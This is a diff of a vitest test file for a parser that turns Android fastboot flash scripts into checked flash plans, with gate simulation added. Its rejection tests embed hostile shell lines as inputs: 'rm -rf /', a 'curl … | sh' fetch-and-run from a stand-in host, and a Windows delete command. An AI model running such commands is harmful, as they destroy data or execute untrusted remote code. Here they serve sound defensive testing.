@@ -2,11 +2,23 @@ import { describe, expect, it } from 'vitest';
 import { ExitCode } from '../../src/errors.js';
 import { FlashPlanSchema, isDeviceOp, type FlashPlan, type PlanStep } from '../../src/plan/schema.js';
 import { ScriptParseError, mergeTwin, modeFromName, opSignature, parseScript } from '../../src/rom/index.js';
+import { ScriptInterpretError } from '../../src/rom/script/interp/engine.js';
+import { isTool } from '../../src/rom/script/tools/index.js';
+import { TOOLBOX } from '../../src/rom/script/toolbox.js';
+import { simulatePlan } from '../../src/plan/simulate.js';
+import { checksOf } from '../../src/plan/checks.js';
 import { fixture, fixtureScripts } from './helpers.js';
 
-function parse(name: string, extra: { antiVersion?: number; folderName?: string } = {}): FlashPlan {
+function parse(name: string, extra: { antiVersion?: number; folderName?: string; readRomText?: (f: string) => string | undefined } = {}): FlashPlan {
   return parseScript(fixture(name), { file: name, dialect: name.endsWith('.sh') ? 'sh' : 'bat', ...extra });
 }
+/** Where the plan stops for a model device (an exit's or refusal's line and message), or undefined when it runs through. */
+function stopsFor(p: FlashPlan, vars: Record<string, string>, deviceInfo?: string[]): { line: number; message?: string; kind: string } | undefined {
+  const s = simulatePlan(p.steps, { vars, ...(deviceInfo ? { deviceInfo } : {}) }, TOOLBOX).stop;
+  if (!s || (s.kind === 'exit' && s.status === 0)) return undefined;
+  return { line: s.line, kind: s.kind, ...(s.message ? { message: s.message } : {}) };
+}
+const NOT_FLASH = /generate-factory-images-common|smartisan-oscar-edl/;
 const ops = (p: FlashPlan) => p.steps.filter(isDeviceOp);
 const brief = (s: PlanStep) =>
   s.kind === 'flash' ? `flash ${s.partition} ${s.file}` : s.kind === 'erase' ? `erase ${s.partition}` : s.kind === 'set-active' ? `set_active ${s.slot}` : s.kind === 'reboot' ? `reboot${s.target ? ' ' + s.target : ''}` : s.kind === 'lock' ? s.command : s.kind;
@@ -34,13 +46,14 @@ describe('every corpus script parses', () => {
   it('fixtures include every Xiaomi script of the corpus', () => {
     expect(xiaomi.length).toBe(33);
   });
-  for (const s of [...xiaomi, ...fixtureScripts().filter((x) => x.name.startsWith('google-'))]) {
+  for (const s of [...xiaomi, ...fixtureScripts().filter((x) => x.name.startsWith('google-') && !NOT_FLASH.test(x.name))]) {
     it(s.name, () => {
       const plan = parse(s.name);
       expect(FlashPlanSchema.safeParse(plan).success).toBe(true);
       expect(ops(plan).length).toBeGreaterThan(3);
       // No step carries shell syntax: only typed fields (a blocking unknown gate quotes its source line).
-      expect(JSON.stringify(plan.steps.filter((x) => x.kind !== 'gate.unknown'))).not.toMatch(/\$\*|%\*|dirname|%~dp0|`/);
+      // (Messages and refusals quote the script; they are shown, never run.)
+      expect(JSON.stringify(plan.steps.filter((x) => x.kind !== 'gate.unknown' && x.kind !== 'exit' && x.kind !== 'note'))).not.toMatch(/\$\*|%\*|dirname|%~dp0|`/);
     });
   }
   it('genuine Xiaomi .sh scripts: device ops equal an independent regex reading of the file', () => {
@@ -53,31 +66,37 @@ describe('every corpus script parses', () => {
 describe('expected step sequences', () => {
   it('raphaelin flash_all.sh: anti gate, product gate, then vendor order ending in reboot', () => {
     const p = parse('xiaomi-raphaelin-v12-flash_all.sh');
-    expect(p.source).toMatchObject({ dialect: 'sh', mode: 'clean', family: 'xiaomi' });
-    const [anti, product, first] = p.steps;
-    expect(anti).toMatchObject({ kind: 'gate.anti-rollback', line: 4, packageVersion: 1, from: 'script', onFailure: 'abort' });
-    expect(product).toMatchObject({ kind: 'gate.product', line: 5, products: ['raphaelin'], match: 'prefix', message: 'Missmatching image and device' });
-    const re = new RegExp((product as Extract<PlanStep, { kind: 'gate.product' }>).patterns[0]!);
-    expect(re.test('product: raphaelin')).toBe(true);
-    expect(re.test('product: raphael')).toBe(false);
-    expect(first).toMatchObject({ kind: 'erase', partition: 'boot', line: 7, onFailure: 'abort', message: 'Erase boot error' });
+    expect(p.source).toMatchObject({ dialect: 'sh', shell: 'dash', mode: 'clean', family: 'xiaomi' });
+    // CURRENT_ANTI_VER=1: the script stops at line 4 for a device above 1, at line 5 for another product.
+    expect(stopsFor(p, { product: 'raphaelin', anti: '2' })).toMatchObject({ line: 4, kind: 'exit' }); // where the script exits
+    expect(stopsFor(p, { product: 'raphaelin', anti: '1' })).toBeUndefined();
+    expect(stopsFor(p, { product: 'raphaelin' })).toBeUndefined();
+    expect(stopsFor(p, { product: 'raphael', anti: '0' })).toEqual({ line: 6, kind: 'exit', message: 'Missmatching image and device' });
+    // `grep "^product: *raphaelin"` has no `$`: a prefix match, said so.
+    expect(stopsFor(p, { product: 'raphaelinx', anti: '0' })).toBeUndefined();
+    expect(p.warnings.some((w) => /line 6: the product check is a prefix match/.test(w))).toBe(true);
     const o = ops(p);
+    expect(o[0]).toMatchObject({ kind: 'erase', partition: 'boot', line: 7, onFailure: 'abort', message: 'Erase boot error' });
     expect(o.slice(1, 4).map(brief)).toEqual(['flash crclist images/crclist.txt', 'flash sparsecrclist images/sparsecrclist.txt', 'flash xbl images/xbl.elf']);
     expect(o.at(-1)).toMatchObject({ kind: 'reboot', onFailure: 'abort', message: 'Reboot error' });
     expect(o.filter((s) => s.kind === 'flash')).toHaveLength(44);
     // commented-out storsecbak/splash never run
     expect(o.some((s) => s.kind === 'flash' && (s.partition === 'storsecbak' || s.partition === 'splash'))).toBe(false);
-    expect(o.every((s) => s.onFailure === 'abort' && !s.vendorUnchecked)).toBe(true);
+    expect(o.every((s) => s.onFailure === 'abort' && !s.vendorUnchecked && !s.when)).toBe(true);
   });
 
   it('liuqin flash_all.sh: anti version from anti_version.txt, conditional CRC block, set_active before reboot', () => {
-    const p = parse('xiaomi-liuqin-hyperos2-flash_all.sh', { antiVersion: 7 });
-    expect(p.steps[0]).toMatchObject({ kind: 'gate.product', line: 1, products: ['liuqin'] });
-    expect(p.steps[1]).toMatchObject({ kind: 'gate.anti-rollback', packageVersion: 7, from: 'anti_version.txt', line: 11 });
-    expect(parse('xiaomi-liuqin-hyperos2-flash_all.sh').steps[1]).toMatchObject({ packageVersion: 0, from: 'anti_version.txt-missing' });
-    const conditioned = p.steps.filter((s) => s.condition);
+    const p = parse('xiaomi-liuqin-hyperos2-flash_all.sh', { readRomText: (f) => (f === 'images/anti_version.txt' ? '7\n' : undefined) });
+    expect(stopsFor(p, { product: 'liuqin', anti: '8' })).toMatchObject({ line: 11, message: 'Current device antirollback version is greater than this pakcage' });
+    expect(stopsFor(p, { product: 'liuqin', anti: '7', crc: '1' })).toBeUndefined();
+    expect(stopsFor(p, { product: 'other', anti: '0' })).toMatchObject({ line: 2 });
+    // Without the file the script compares with 0.
+    const missing = parse('xiaomi-liuqin-hyperos2-flash_all.sh');
+    expect(stopsFor(missing, { product: 'liuqin', anti: '1' })).toMatchObject({ line: 11 });
+    expect(stopsFor(missing, { product: 'liuqin', anti: '0' })).toBeUndefined();
+    const conditioned = ops(p).filter((s) => s.when);
     expect(conditioned.map(brief)).toEqual(['flash crclist images/crclist.txt', 'flash sparsecrclist images/sparsecrclist.txt']);
-    expect(conditioned.every((s) => s.condition?.kind === 'crc-supported')).toBe(true);
+    expect(conditioned.every((s) => checksOf({ kind: 'exit', line: 0, onFailure: 'abort', status: 1, when: s.when! }, p.steps).join() === 'crc')).toBe(true);
     const o = ops(p).map(brief);
     expect(o.slice(2, 4)).toEqual(['erase boot_ab', 'flash abl_ab images/abl.elf']);
     expect(o.slice(-2)).toEqual(['set_active a', 'reboot']);
@@ -88,7 +107,9 @@ describe('expected step sequences', () => {
   it('land flash_all.sh: banner note, prefix product gate, every op vendor-unchecked with the §6 policy', () => {
     const p = parse('xiaomi-land-miui8-flash_all.sh');
     expect(p.steps[0]).toMatchObject({ kind: 'note', text: 'land Fastboot Tool Ver 8.0' });
-    expect(p.steps[1]).toMatchObject({ kind: 'gate.product', line: 3, products: ['land'], patterns: ['^product: land'], message: 'Missmatching image and device' });
+    expect(stopsFor(p, { product: 'kenzo' })).toEqual({ line: 5, kind: 'exit', message: 'Missmatching image and device' });
+    expect(stopsFor(p, { product: 'land' })).toBeUndefined();
+    expect(stopsFor(p, { product: 'landx' })).toBeUndefined(); // `^product: land`: a prefix match
     const o = ops(p);
     expect(o[0]).toMatchObject({ kind: 'flash', partition: 'partition', file: 'images/gpt_both0.bin' });
     expect(o.every((s) => s.vendorUnchecked)).toBe(true);
@@ -151,11 +172,14 @@ describe('expected step sequences', () => {
     ]);
   });
 
-  it('mido (derived): ERE alternatives, unlock gate, flash:raw becomes a blocking unknown gate', () => {
+  it('mido (derived): ERE alternatives, unlock gate, flash:raw becomes a blocking refusal at its line', () => {
     const p = parse('derived-xiaomi-mido-miui_full_stock.sh');
-    expect(p.steps[0]).toMatchObject({ kind: 'gate.product', products: ['MSM8953', 'mido'], match: 'exact', source: { dialect: 'ere' } });
-    expect(p.steps[1]).toMatchObject({ kind: 'gate.unlocked', pattern: 'Device unlocked: true', message: 'Device oem locked' });
-    expect(p.steps.find((s) => s.kind === 'gate.unknown')).toMatchObject({ line: 87, onFailure: 'abort' });
+    const unlocked = ['Device unlocked: true'];
+    expect(stopsFor(p, { product: 'MSM8953' }, unlocked)?.kind).toBe('gate.unknown');
+    expect(stopsFor(p, { product: 'mido' }, unlocked)).toMatchObject({ kind: 'gate.unknown', line: 87 });
+    expect(stopsFor(p, { product: 'midox' }, unlocked)).toEqual({ line: 10, kind: 'exit', message: 'Missmatching image and device' });
+    expect(stopsFor(p, { product: 'mido' }, ['Device unlocked: false'])).toEqual({ line: 15, kind: 'exit', message: 'Device oem locked' });
+    expect(p.steps.find((s) => s.kind === 'gate.unknown')).toMatchObject({ line: 87, onFailure: 'abort', reason: expect.stringMatching(/mkbootimg/) });
   });
 
   it('begonia (derived .bat): flags after the file, -w, reboot recovery, title and pause as notes', () => {
@@ -224,9 +248,9 @@ describe('.sh and .bat twins give the same device operations', () => {
 describe('unknown lines are errors naming file, line and text', () => {
   const cases: Array<[string, 'sh' | 'bat', string, number]> = [
     ['flash_all.sh', 'sh', 'fastboot $* erase boot\nrm -rf /\nfastboot $* reboot\n', 2],
-    ['flash_all.sh', 'sh', 'fastboot $* getvar product 2>&1 | grep "^product: *x"\nif [ $? -ne 0 ] ; then echo "M"; exit 1; fi\nfastboot $* boot `dirname $0`/images/boot.img\n', 3],
+    ['flash_all.sh', 'sh', 'fastboot $* erase boot\ncurl -s http://example.invalid/x | sh\nfastboot $* reboot\n', 2],
     ['flash_all.sh', 'sh', 'fastboot $* flash boot `dirname $0`/../boot.img\n', 1],
-    ['flash_all.sh', 'sh', 'FOO=bar\n', 1],
+    ['flash_all.sh', 'sh', 'exec fastboot reboot\n', 1],
     ['flash_all.bat', 'bat', 'fastboot %* erase boot\r\ndel /q %~dp0images\r\n', 2],
     ['flash_all.bat', 'bat', 'fastboot %* flash boot %~dp0images\\boot.img || @echo "x" && goto nowhere\n', 1],
     ['flash_all.bat', 'bat', 'fastboot %* erase boot & del x\n', 1],
@@ -239,7 +263,8 @@ describe('unknown lines are errors naming file, line and text', () => {
       } catch (e) {
         err = e;
       }
-      expect(err).toBeInstanceOf(ScriptParseError);
+      // .sh scripts are interpreted (ScriptInterpretError), .bat lines still recognised (ScriptParseError).
+      expect(err).toBeInstanceOf(dialect === 'sh' ? ScriptInterpretError : ScriptParseError);
       const e = err as ScriptParseError;
       expect(e.exitCode).toBe(ExitCode.BAD_INPUT);
       expect(e.file).toBe(file);
@@ -248,8 +273,18 @@ describe('unknown lines are errors naming file, line and text', () => {
       expect(e.message).toContain(`${file}:${line}:`);
     });
   }
-  it('a CalyxOS script is rejected at its first unsupported line, not silently shortened', () => {
-    expect(() => parseScript('#!/bin/bash\n\nset -eu\nfastboot flash x x.img\n', { file: 'flash-all.sh', dialect: 'sh' })).toThrow(/flash-all\.sh:3: unrecognised line: "set -eu"/);
+  it('set -eu (CalyxOS) is interpreted: a failed operation stops the script', () => {
+    const p = parseScript('#!/bin/bash\n\nset -eu\nfastboot flash x x.img\nfastboot erase y\n', { file: 'flash-all.sh', dialect: 'sh' });
+    expect(p.source.shell).toBe('bash');
+    expect(ops(p).map((s) => [brief(s), s.onFailure, s.vendorUnchecked ?? false])).toEqual([
+      ['flash x x.img', 'abort', false],
+      ['erase y', 'abort', false],
+    ]);
+  });
+  it('an unsupported command reached only on some devices is a blocking step there, not a refusal of the whole script', () => {
+    const p = parseScript('fastboot $* getvar product 2>&1 | grep -q taro && adb reboot\nfastboot $* reboot\n', { file: 'flash_all.sh', dialect: 'sh' });
+    expect(stopsFor(p, { product: 'taro' })).toMatchObject({ kind: 'gate.unknown', line: 1 });
+    expect(stopsFor(p, { product: 'Spacewar' })).toBeUndefined();
   });
   it('CRLF, tabs and missing final newline are accepted', () => {
     const p = parseScript('fastboot\t%*   flash  boot  "%~dp0images\\boot.img"   || @echo "Flash boot error" && exit /B 1\r\nfastboot %* reboot', { file: 'flash_all.bat', dialect: 'bat' });
@@ -306,10 +341,9 @@ describe('variants outside the corpus (grammar §6)', () => {
   });
 });
 
-// H9: these two shapes are now interpreted (grammar §6: hw-revision threshold → gate.hw-revision, patch level →
-// gate.security-patch-level); shapes miflash cannot interpret still become blocking gate.unknown (last case).
-describe('gates recognised by shape', () => {
-  it('.sh: a hardware-revision threshold read with awk', () => {
+// Gates the old shape recogniser knew by name are now just what the script computes.
+describe('gates are interpreted, not recognised by shape', () => {
+  it.skipIf(!isTool('awk'))('.sh: a hardware-revision threshold read with awk', () => {
     const text = [
       'hwv=`fastboot $* getvar hw-revision 2>&1 | awk \'/hw-revision/ {print $2}\'`',
       'if [ -z "$hwv" ]; then hwv=0; fi',
@@ -317,8 +351,10 @@ describe('gates recognised by shape', () => {
       'fastboot $* flash boot `dirname $0`/images/boot.img',
     ].join('\n');
     const p = parseScript(text, { file: 'flash_all.sh', dialect: 'sh' });
-    expect(p.steps[0]).toEqual({ kind: 'gate.hw-revision', line: 3, onFailure: 'abort', message: 'hardware too old', variable: 'hw-revision', min: 3 });
-    expect(p.steps[1]).toMatchObject({ kind: 'flash', partition: 'boot' });
+    expect(stopsFor(p, { 'hw-revision': '2' })).toEqual({ line: 3, kind: 'exit', message: 'hardware too old' });
+    expect(stopsFor(p, {})).toMatchObject({ line: 3 });
+    expect(stopsFor(p, { 'hw-revision': '3' })).toBeUndefined();
+    expect(ops(p).map(brief)).toEqual(['flash boot images/boot.img']);
   });
   it('.bat: a security patch level compared in a block', () => {
     const text = [
@@ -341,16 +377,14 @@ describe('gates recognised by shape', () => {
     });
     expect(p.steps[1]).toMatchObject({ kind: 'reboot' });
   });
-  it('a gate-shaped check on a value miflash cannot interpret is a blocking gate.unknown naming the line', () => {
+  it.skipIf(!isTool('awk'))('a check on any other value works the same (no list of known gates)', () => {
     const text = [
       'bat=`fastboot $* getvar battery-voltage 2>&1 | awk \'/battery-voltage/ {print $2}\'`',
       'if [ $bat -lt 3600 ]; then echo "battery too low"; exit 1; fi',
       'fastboot $* reboot',
     ].join('\n');
     const p = parseScript(text, { file: 'flash_all.sh', dialect: 'sh' });
-    expect(p.steps[0]).toMatchObject({ kind: 'gate.unknown', line: 2, onFailure: 'abort', message: 'battery too low' });
-    // the unknown gate quotes both the read and the comparison
-    expect((p.steps[0] as Extract<PlanStep, { kind: 'gate.unknown' }>).text).toBe(`${text.split('\n')[0]} / ${text.split('\n')[1]}`);
-    expect((p.steps[0] as Extract<PlanStep, { kind: 'gate.unknown' }>).reason).toMatch(/getvar battery-voltage/);
+    expect(stopsFor(p, { 'battery-voltage': '3500' })).toEqual({ line: 2, kind: 'exit', message: 'battery too low' });
+    expect(stopsFor(p, { 'battery-voltage': '3900' })).toBeUndefined();
   });
 });
